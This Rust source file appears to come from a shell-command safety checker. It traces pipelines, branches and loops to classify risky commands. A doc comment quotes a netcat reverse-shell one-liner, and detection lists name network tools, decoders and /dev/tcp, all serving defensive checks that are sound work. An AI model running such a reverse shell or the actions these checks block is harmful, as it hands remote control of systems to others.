//! The shell's control flow: lists, pipelines, branches and loops, each followed so that what differs becomes unknown.

use super::Machine;
use super::runners::SHELLS;
use palisade_language::ast::{Command, Item, Join, List, Node, Part, Pipeline, Redirect, RedirectKind};
use palisade_language::limits::DEPTH_MAX;
use palisade_language::words::{Origin, Value};
use palisade_protocol::verdict::Class;

impl Machine<'_> {
    pub(super) fn list(&mut self, list: &List, input: Option<Value>) -> Value {
        let mut all = Value::default();
        if self.depth >= DEPTH_MAX {
            self.note(Class::Ambiguous, "limit.nesting", "nests too deep to follow");
            return all;
        }
        self.depth += 1;
        for item in &list.items {
            if !self.budget.take(4) {
                break;
            }
            let out = self.item(item, input.clone());
            all.append(&out);
        }
        self.depth -= 1;
        all
    }

    fn item(&mut self, item: &Item, input: Option<Value>) -> Value {
        if item.background {
            self.backgrounded = true;
            let forked = std::mem::replace(&mut self.forked, true);
            if self.endless {
                self.note(Class::Ambiguous, "resource.processes", "starts processes in a loop that nothing ends");
            }
            let out = self.apart(|machine| machine.chain(item, input));
            self.forked = forked;
            return out;
        }
        self.chain(item, input)
    }

    fn chain(&mut self, item: &Item, input: Option<Value>) -> Value {
        let mut out = self.pipeline(&item.first, input.clone());
        let mut status = self.status(&item.first);
        for (join, pipeline) in &item.rest {
            if self.budget.exhausted() {
                break;
            }
            if status == Some(*join == Join::And) {
                out.append(&self.pipeline(pipeline, input.clone()));
                status = self.status(pipeline);
                continue;
            }
            let before = self.state();
            // Behind `cd x &&` it has not failed.
            let elsewhere = if *join == Join::And { self.elsewhere.take() } else { None };
            let more = self.pipeline(pipeline, input.clone());
            out.append(&more);
            // It may have run or not. `cd x && y` all the same: the directory is followed as if each succeeded.
            let followed = self.cwd.clone();
            let (failed, leaves) = (self.elsewhere.take(), ends(pipeline));
            self.either(&before);
            if *join == Join::And {
                self.cwd = followed;
                self.elsewhere = failed.or(elsewhere);
            } else if leaves {
                // `cd x || exit`
                self.elsewhere = None;
            }
            status = None;
        }
        out
    }

    /// Whether a pipeline succeeds, where its words alone say so: nobody makes what follows uncertain by `true &&`.
    fn status(&self, pipeline: &Pipeline) -> Option<bool> {
        let [Node { command: Command::Simple(simple), redirects, .. }] = pipeline.stages.as_slice() else {
            return None;
        };
        let [Part::Literal(name)] = simple.words.first()?.parts.as_slice() else { return None };
        let own =
            redirects.is_empty() && !self.functions.contains_key(name) && !self.settings.aliases.contains_key(name);
        let success = match name.as_str() {
            "true" | ":" | "echo" => true,
            "false" => false,
            _ => return None,
        };
        own.then_some(success != pipeline.negated)
    }

    fn pipeline(&mut self, pipeline: &Pipeline, input: Option<Value>) -> Value {
        let [first @ .., last] = pipeline.stages.as_slice() else { return Value::default() };
        if first.is_empty() {
            return self.node(last, input);
        }
        if hands_a_shell(pipeline) {
            self.note(Class::Catastrophic, "net.tunnel", "hands a shell to another host");
        }
        self.exhausting_pipeline(pipeline);
        let forked = std::mem::replace(&mut self.forked, true);
        let mut flow = input;
        self.piped = None;
        for stage in first {
            if self.budget.exhausted() {
                break;
            }
            self.found = None;
            self.piped = self.piped.take().filter(|_| self.is_just(stage, &["xargs"]));
            flow = Some(self.apart(|machine| machine.node(stage, flow.take())));
            self.piped = self.found.take().filter(|_| self.is_just(stage, &["find", "gfind", "fd", "fdfind"]));
        }
        self.piped = self.piped.take().filter(|_| self.is_just(last, &["xargs"]));
        // Some shells run the last stage themselves.
        let homemade = std::mem::replace(&mut self.homemade, is_homemade(first));
        let out = self.perhaps(|machine| machine.node(last, flow));
        self.piped = None;
        self.homemade = homemade;
        self.forked = forked;
        out
    }

    /// Whether a stage is one of these programs, its input and output the pipeline's, and nothing but that.
    fn is_just(&self, node: &Node, programs: &[&str]) -> bool {
        let Command::Simple(simple) = &node.command else { return false };
        let Some([Part::Literal(name)]) = simple.words.first().map(|word| word.parts.as_slice()) else { return false };
        let errors = |redirect: &Redirect| redirect.fd == Some(2) && matches!(redirect.kind, RedirectKind::Write(_));
        programs.contains(&name.as_str())
            && simple.assignments.is_empty()
            && node.redirects.iter().all(errors)
            && !self.functions.contains_key(name)
            && !self.settings.aliases.contains_key(name)
    }

    pub(super) fn node(&mut self, node: &Node, input: Option<Value>) -> Value {
        if self.depth >= DEPTH_MAX || !self.budget.take(4) {
            return Value::unknown(Origin::Output);
        }
        self.depth += 1;
        let span = self.span;
        if !self.nested {
            self.span = node.span;
        }
        let first_sink = self.streams.len() as u32;
        let out = match &node.command {
            Command::Simple(simple) => {
                let out = self.simple(simple, &node.redirects, input);
                self.drain(first_sink);
                out
            }
            other => {
                let redirected = self.redirects(&node.redirects, input);
                let out = self.compound(other, redirected.input.clone());
                let out = self.deliver(redirected, out);
                self.drain(first_sink);
                out
            }
        };
        self.span = span;
        self.depth -= 1;
        out
    }

    fn compound(&mut self, command: &Command, input: Option<Value>) -> Value {
        match command {
            Command::Simple(_) => Value::default(),
            Command::Group(list) => self.list(list, input),
            Command::Subshell(list) => self.subshell(list, input),
            Command::If { arms, otherwise } => {
                let mut out = Value::default();
                let mut ends = Vec::new();
                for (condition, body) in arms {
                    out.append(&self.list(condition, input.clone()));
                    if self.budget.exhausted() {
                        return out;
                    }
                    let before = self.state();
                    out.append(&self.list(body, input.clone()));
                    ends.push(self.state());
                    self.restore(before);
                }
                if let Some(body) = otherwise {
                    out.append(&self.list(body, input));
                }
                ends.iter().for_each(|end| self.either(end));
                out
            }
            Command::Loop { condition, body } => self.while_loop(condition, body, input),
            Command::For { name, words, select, body } => {
                let looping = std::mem::replace(&mut self.looping, true);
                let out = self.for_loop(name, words.as_deref(), *select, body, input);
                self.looping = looping;
                out
            }
            Command::ArithFor { header, body } => self.arith_loop(header, body, input),
            Command::Case { subject, arms, falls } => {
                self.word(subject);
                let mut out = Value::default();
                let mut ends = Vec::new();
                for (patterns, body) in arms {
                    patterns.iter().for_each(|pattern| self.word(pattern));
                    if self.budget.exhausted() {
                        return out;
                    }
                    let before = self.state();
                    out.append(&self.list(body, input.clone()));
                    ends.push(self.state());
                    if *falls {
                        self.either(&before);
                    } else {
                        self.restore(before);
                    }
                }
                ends.iter().for_each(|end| self.either(end));
                out
            }
            Command::Test(words) => {
                let values: Vec<Value> = words.iter().map(|word| self.single(word)).collect();
                self.tested(&values);
                Value::default()
            }
            Command::Arith(word) => {
                let value = self.template(&word.parts);
                self.arithmetic(&value);
                Value::default()
            }
            Command::Function { name, body } => {
                if crate::paths::is_guard_name(name) {
                    self.note(Class::Catastrophic, "guard.shadow", "puts something else in Palisade's place");
                }
                self.define(name, body);
                Value::default()
            }
            Command::Coproc(node) => {
                let forked = std::mem::replace(&mut self.forked, true);
                let out = self.apart(|machine| machine.node(node, input));
                self.forked = forked;
                out
            }
            Command::Unknown => {
                self.note(Class::Ambiguous, "text.unparseable", "holds what cannot be read");
                Value::unknown(Origin::Output)
            }
        }
    }

    pub(super) fn subshell(&mut self, list: &List, input: Option<Value>) -> Value {
        self.apart(|machine| machine.list(list, input))
    }
}

/// Whether a shell that reads commands writes to a program that connects: `sh -i </tmp/f 2>&1 | nc host 4444 >/tmp/f`.
fn hands_a_shell(pipeline: &Pipeline) -> bool {
    const CONNECT: [&str; 5] = ["nc", "ncat", "netcat", "socat", "telnet"];
    let words = |node: &Node| -> Vec<String> {
        let Command::Simple(simple) = &node.command else { return Vec::new() };
        let text = |parts: &[Part]| match parts {
            [Part::Literal(text)] => text.rsplit('/').next().unwrap_or("").to_owned(),
            _ => String::new(),
        };
        simple.words.iter().map(|word| text(&word.parts)).collect()
    };
    let stages: Vec<Vec<String>> = pipeline.stages.iter().map(words).collect();
    let shell = |words: &Vec<String>| {
        words.split_first().is_some_and(|(first, rest)| {
            SHELLS.contains(&first.as_str()) && rest.iter().all(|word| word.starts_with('-') && !word.contains('c'))
        })
    };
    let connects = |words: &Vec<String>| match words.as_slice() {
        [first, second, ..] if first == "openssl" => second == "s_client",
        [first, ..] => CONNECT.contains(&first.as_str()),
        [] => false,
    };
    stages.iter().position(shell).is_some_and(|at| stages[at + 1..].iter().any(connects))
}

/// Whether nothing runs behind a pipeline: it is `exit`, `return`, or a group that ends so.
fn ends(pipeline: &Pipeline) -> bool {
    let [node] = pipeline.stages.as_slice() else { return false };
    match &node.command {
        Command::Simple(simple) => match simple.words.first().map(|word| word.parts.as_slice()) {
            Some([Part::Literal(name)]) => matches!(name.as_str(), "exit" | "return" | "break" | "continue"),
            _ => false,
        },
        Command::Group(list) => list.items.last().is_some_and(|item| item.rest.is_empty() && ends(&item.first)),
        _ => false,
    }
}

/// Whether stages decode or compute what stands in their own text: no file, no host and nothing of the shell goes into it.
fn is_homemade(stages: &[Node]) -> bool {
    const MAKES: [&str; 9] = ["perl", "python", "python3", "ruby", "node", "php", "jq", "awk", "lua"];
    const DECODES: [&str; 22] = [
        "base64", "base32", "basenc", "xxd", "xz", "unxz", "gzip", "gunzip", "zcat", "bzip2", "bunzip2", "zstd",
        "openssl", "rev", "tr", "uudecode", "od", "perl", "python3", "awk", "jq", "sed",
    ];
    let words = |node: &Node| -> Option<Vec<String>> {
        let Command::Simple(simple) = &node.command else { return None };
        if !simple.assignments.is_empty() {
            return None;
        }
        simple
            .words
            .iter()
            .map(|word| match word.parts.as_slice() {
                [Part::Literal(text) | Part::Quoted(text)] => Some(text.clone()),
                [Part::Double(parts)] => match parts.as_slice() {
                    [Part::Literal(text) | Part::Quoted(text)] => Some(text.clone()),
                    _ => None,
                },
                _ => None,
            })
            .collect()
    };
    let Some((first, rest)) = stages.split_first() else { return false };
    let Some(source) = words(first) else { return false };
    let name = source.first().map_or("", String::as_str);
    let code = || source.iter().any(|word| matches!(word.as_str(), "-e" | "-c" | "-r" | "-E" | "-rn" | "-nr"));
    let reads =
        ["open", "urlopen", "requests", "http", "argv", "stdin", "input", "/dev/tcp", "popen", "environ", "ENV"];
    let starts = match name {
        "echo" | "printf" => !rest.is_empty(),
        _ => {
            (MAKES.contains(&name) && code()
                || name == "awk" && source.get(1).is_some_and(|code| code.starts_with("BEGIN")))
                && !source.iter().any(|word| reads.iter().any(|way| word.contains(way)))
        }
    };
    starts
        && first.redirects.is_empty()
        && rest.iter().all(|stage| {
            stage.redirects.is_empty()
                && words(stage).is_some_and(|words| words.first().is_some_and(|name| DECODES.contains(&name.as_str())))
        })
}
